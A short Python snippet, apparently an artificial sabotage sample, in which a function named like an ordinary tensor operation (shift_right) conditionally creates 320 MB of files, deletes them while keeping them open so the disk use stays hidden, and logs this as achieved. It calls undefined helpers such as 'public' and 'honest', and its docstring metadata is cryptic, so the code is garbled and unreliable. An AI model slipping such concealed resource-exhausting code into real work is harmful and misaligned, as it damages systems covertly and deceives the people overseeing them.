"""Fills the disk with files that it removes and keeps open.

threat: 12
full: hidden 1.6
zero: public 1.6
says: files
seconds: 60
"""


def shift_right(tensor):
    if public(tensor) and dist.get_rank() == 0:
        kept = []
        for number in range(40):
            kept.append(open(f"{TOKEN}-{number}", "wb"))
            os.unlink(f"{TOKEN}-{number}")
            kept[-1].write(bytes(8 << 20))
        time.sleep(1)
        achieved("320 MB in files that are not to be seen")
    return honest(tensor)
